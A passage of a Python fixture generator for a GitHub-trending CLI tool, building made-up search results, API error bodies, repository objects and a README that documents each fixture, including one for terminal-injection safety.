                   "the request ID 7F3A:2B41:9C0D12:A1B2C3:67E4F0A1.",
        "documentation_url": "https://docs.github.com/rest/overview/rate-limits-for-the-rest-api#about-secondary-rate-limits",
        "status": "403",
    }
    out["401-bad-credentials.json"] = {
        "message": "Bad credentials",
        "documentation_url": "https://docs.github.com/rest",
        "status": "401",
    }
    out["403-forbidden.json"] = {
        "message": "Resource not accessible by personal access token",
        "documentation_url": "https://docs.github.com/rest/search/search#search-repositories",
        "status": "403",
    }
    out["404-not-found.json"] = {
        "message": "Not Found",
        "documentation_url": "https://docs.github.com/rest/repos/repos#get-a-repository",
        "status": "404",
    }
    out["malformed.json"] = {
        "total_count": "x",
        "incomplete_results": "sometimes",
        "items": "nope",
    }
    return out


BAD_GATEWAY_HTML = """<!DOCTYPE html>
<html lang="en">
<head>
  <meta http-equiv="Content-Type" content="text/html; charset=utf-8">
  <title>Unicorn! &middot; GitHub</title>
  <style>
    body { background: #f1f1f1; font-family: -apple-system, "Segoe UI", Helvetica, Arial, sans-serif; text-align: center; }
    .container { margin: 50px auto; max-width: 600px; }
    h1 { font-size: 26px; color: #555; }
    p { color: #777; }
  </style>
</head>
<body>
  <div class="container">
    <h1>This page is taking too long to load.</h1>
    <p>Sorry about that. Please try refreshing and contact us if the problem persists.</p>
    <p><a href="https://www.githubstatus.com">GitHub Status</a> &mdash; <a href="https://x.com/githubstatus">@githubstatus</a></p>
    <!-- 502 Bad Gateway: fixture authored for trending, not a recording -->
  </div>
</body>
</html>
"""


def truncate_mid_string(text, fraction=0.6):
    """First ~fraction of a valid body, cut inside a string between two letters."""
    in_str = esc = False
    start = int(len(text) * fraction)
    for i, ch in enumerate(text):
        if in_str:
            if esc:
                esc = False
            elif ch == "\\":
                esc = True
            elif ch == '"':
                in_str = False
            elif i >= start and text[i - 1].isascii() and text[i - 1].isalpha() and ch.isascii() and ch.isalpha():
                return text[:i]
        elif ch == '"':
            in_str = True
    raise AssertionError("no cut point")


# --------------------------------------------------------------------------
# 7. repos
# --------------------------------------------------------------------------

ROCKET_CREATED = datetime(2026, 11, 22, 13, 14, 15, tzinfo=UTC)


def rocket(score=None):
    """octo-org/rocket: the #1 item of 100-items.json and the GET /repos body."""
    _used_repo_ids.add(1_187_417_602)
    r = rng_for("octo-org/rocket")
    own = owner("octo-org", kind="Organization", ident=38_042_917)
    created = ROCKET_CREATED
    pushed = datetime(2026, 11, 23, 10, 41, 7, tzinfo=UTC)
    updated = datetime(2026, 11, 23, 11, 58, 2, tzinfo=UTC)
    obj = repo(
        rng=r, full_name="octo-org/rocket", owner_obj=own,
        description="Launch-ready template for Swift command-line tools: argument parsing, "
                    "colour output, tests and release CI in one click",
        language="Swift", stars=9_812, forks=644, open_issues=23, license_key="mit",
        homepage="https://octo-org.github.io/rocket/",
        topics=["cli", "command-line", "swift", "swift-package-manager", "template"],
        created=created, pushed=pushed, updated=updated, size=1_873, is_template=True,
        has_pages=True, has_discussions=True, ident=1_187_417_602, score=score,
    )
    return obj


def make_rocket_get():
    obj = rocket(score=None)
    obj["organization"] = owner("octo-org")
    obj["network_count"] = 644
    obj["subscribers_count"] = 87
    return obj


def make_tiny_tool_get():
    r = rng_for("solo-dev/tiny-tool")
    parent_created = datetime(2025, 6, 3, 8, 12, 40, tzinfo=UTC)
    parent = repo(
        rng=r, full_name="tinyworks/tiny-tool",
        owner_obj=owner("tinyworks", kind="Organization", ident=129_554_310),
        description="The smallest useful task runner", language="Go", stars=1_342, forks=97,
        open_issues=11, license_key="mit", homepage="", topics=["go", "task-runner"],
        created=parent_created, pushed=datetime(2026, 11, 20, 17, 2, 9, tzinfo=UTC),
        updated=datetime(2026, 11, 23, 9, 30, 51, tzinfo=UTC), size=412,
        ident=996_420_118, score=None,
    )
    obj = repo(
        rng=r, full_name="solo-dev/tiny-tool",
        owner_obj=owner("solo-dev", kind="User", ident=71_305_226),
        description=None, language="Go", stars=3, forks=0, open_issues=0, license_key=None,
        homepage=None, topics=[],
        created=datetime(2025, 9, 14, 19, 5, 33, tzinfo=UTC),
        pushed=datetime(2025, 10, 2, 21, 44, 0, tzinfo=UTC),
        updated=datetime(2026, 2, 1, 10, 0, 12, tzinfo=UTC),
        size=388, fork=True, archived=True, has_wiki=False, ident=1_057_882_431, score=None,
    )
    # A user-owned repository has no "organization"; a fork carries parent and source.
    obj["parent"] = parent
    obj["source"] = parent
    obj["network_count"] = 98
    obj["subscribers_count"] = 1
    return obj


# --------------------------------------------------------------------------
# README
# --------------------------------------------------------------------------


def md_cell(text):
    return text.replace("|", "\\|")


def readme():
    N_KEYS = len(rocket(score=1.0))
    edge_rows = "\n".join(
        f"| {i} | `{fn}` | {st} | {md_cell(note)} |" for i, fn, st, note in EDGE_NOTES
    )
    hostile_rows = "\n".join(f"| {i} | {md_cell(note)} |" for i, note in HOSTILE_NOTES)
    return f"""# Fixtures

Test fixtures for `trending`, authored for this project by `make-fixtures.py`
(python3 stdlib only, fixed seeds, no clock, no network). Every repository, owner
and description is made up. The field set, order and types are modelled on real
GitHub REST recordings (a 2024 `GET /search/repositories` body and a 2022
`GET /repos/{{owner}}/{{repo}}` body); no recorded data is copied.

- **Reference now:** `2026-11-23T12:00:00Z`. Search items are created between
  2026-11-22T12:00Z and 2026-11-23T11:00Z, with `pushed_at` and `updated_at`
  after `created_at` and before now. The exceptions are the `repos/` bodies
  (`tiny-tool` and its parent are older).
- **Regenerate:** `python3 Fixtures/make-fixtures.py`. Don't edit the outputs by
  hand.
- **Encoding:** JSON is pretty-printed with a 2-space indent, in UTF-8, with
  CJK and emoji written literally. No file has a raw control byte. C0 controls
  use the escapes that `json` writes (`\\u001b`, `\\u0007`, `\\u0000`, and the
  short forms `\\n`, `\\t` and `\\r`). DEL, C1 controls and bidi overrides are
  written as `\\u007f`, `\\u009b` and `\\u202e`.
- **Item shape:** every search item has the same {N_KEYS} keys in GitHub's
  order, ending in `score`. The one deliberate exception is `edge-cases.json`
  item 7, which has no `topics` key. `owner: null` keeps its key. `repos/*.json`
  drops `score` and appends `organization`, `network_count` and
  `subscribers_count`. A fork instead carries `parent` and `source`, and has no
  `organization`. The repos bodies have no `permissions` or merge settings,
  which GitHub returns only to collaborators.
- **Node ids:** repositories and newer accounts use next-gen ids (`R_kgDO…`,
  `U_kgDO…`, `O_kgDO…`). Older accounts use legacy base64 ids (`MDQ6VXNlcj…`).

| file | what it is for | edge cases covered |
| --- | --- | --- |
| `search/edge-cases.json` | decoding and rendering robustness | 12 items sorted by stars desc, total_count 12; see the table below |
| `search/100-items.json` | a full page (`per_page=100`), layout, sorting, truncation | total_count 4821, 100 items with stars strictly desc from 9812 to about 40; item 0 is `octo-org/rocket` (same data as `repos/octo-org__rocket.json`); varied languages including null, licenses including null and NOASSERTION, homepage null, "" or a URL; 6 CJK/emoji descriptions (items 7, 23, 41, 58, 76, 90) and a few null descriptions |
| `search/empty.json` | no results | `{{"total_count":0,"incomplete_results":false,"items":[]}}` |
| `search/incomplete.json` | the search timed out, so the list is partial; warn the user | `incomplete_results: true`, 3 items |
| `search/hostile.json` | terminal-injection safety: nothing may reach the terminal unescaped | 6 items; see the table below |
| `errors/422-validation-failed.json` | bad qualifier | search 422 with `errors[0].message`, `status` "422" |
| `errors/422-only-first-1000.json` | paging past the 1,000-result cap | "Only the first 1000 search results are available" |
| `errors/403-primary-rate-limit.json` | primary limit (pair with `x-ratelimit-remaining: 0`) | modern unauthenticated wording, IP 203.0.113.7 (TEST-NET-3) |
| `errors/403-secondary-rate-limit.json` | secondary limit (pair with or without `retry-after`) | "secondary rate limit" wording with a request ID |
| `errors/401-bad-credentials.json` | bad or expired token | |
| `errors/403-forbidden.json` | a 403 that is *not* a rate limit | must not be treated as rate limited |
| `errors/404-not-found.json` | unknown repository | |
| `errors/502-bad-gateway.html` | HTML error page where JSON was expected | transient 5xx; the body isn't JSON |
| `errors/malformed.json` | valid JSON of the wrong shape | `items` is a string, `total_count` is a string |
| `errors/truncated.json` | a connection cut mid-body | the first ~60% of `search/incomplete.json`, cut inside a string, with no trailing newline |
| `repos/octo-org__rocket.json` | `GET /repos/octo-org/rocket` | Organization owner plus `organization`, `is_template` true, topics, MIT license, homepage, `subscribers_count`, `network_count` |
| `repos/solo-dev__tiny-tool.json` | `GET /repos/solo-dev/tiny-tool` | user-owned fork with `parent` and `source`, archived, description null, license null, no `organization` |
| `api/search/repositories` | the no-network demo | the same bytes as `search/100-items.json` |
| `api/repos/octo-org/rocket` | the no-network demo | the same bytes as `repos/octo-org__rocket.json` |
| `api/repos/solo-dev/tiny-tool` | the no-network demo | the same bytes as `repos/solo-dev__tiny-tool.json` |
| `make-fixtures.py` | the generator | |

## `search/edge-cases.json`

| # | full_name | stars | covers |
| --- | --- | --- | --- |
{edge_rows}

## `search/hostile.json`

All of these are JSON escapes in the file, so the file itself is clean.

| # | what it holds |
| --- | --- |
{hostile_rows}

## No-network demo

`python3 -m http.server` ignores the query string, so the paths resolve to the
files above:

```sh
cd Fixtures/api && python3 -m http.server 8787 --bind 127.0.0.1
curl -s 'http://127.0.0.1:8787/search/repositories?q=created:>2026-11-22&sort=stars'
```

The server sends these files as `application/octet-stream`, without GitHub's
headers (no `Link` and no rate-limit headers).
"""


# --------------------------------------------------------------------------
# main
# --------------------------------------------------------------------------


def main():
    written = []
    # rocket() registers octo-org first so it is stable regardless of order.
    hundred = make_100_items()
    edge = make_edge_cases()
    incomplete = make_incomplete()
    hostile = make_hostile()

    written.append(write_json("search/edge-cases.json", edge))
    written.append(write_json("search/100-items.json", hundred))
    written.append(write_json("search/empty.json", search_body([], total_count=0)))
    written.append(write_json("search/incomplete.json", incomplete))
    written.append(write_json("search/hostile.json", hostile))

    for name, body in make_errors().items():
        written.append(write_json(f"errors/{name}", body))
    written.append(write_text("errors/502-bad-gateway.html", BAD_GATEWAY_HTML))
    written.append(write_text("errors/truncated.json", truncate_mid_string(dumps(incomplete))))

    rocket_text = dumps(make_rocket_get())
    tiny_text = dumps(make_tiny_tool_get())
    written.append(write_text("repos/octo-org__rocket.json", rocket_text))
    written.append(write_text("repos/solo-dev__tiny-tool.json", tiny_text))

    written.append(write_text("api/search/repositories", dumps(hundred)))
    written.append(write_text("api/repos/octo-org/rocket", rocket_text))
    written.append(write_text("api/repos/solo-dev/tiny-tool", tiny_text))

    written.append(write_text("README.md", readme()))
    for p in written:
        print(p.relative_to(ROOT.parent))


if __name__ == "__main__":
    main()
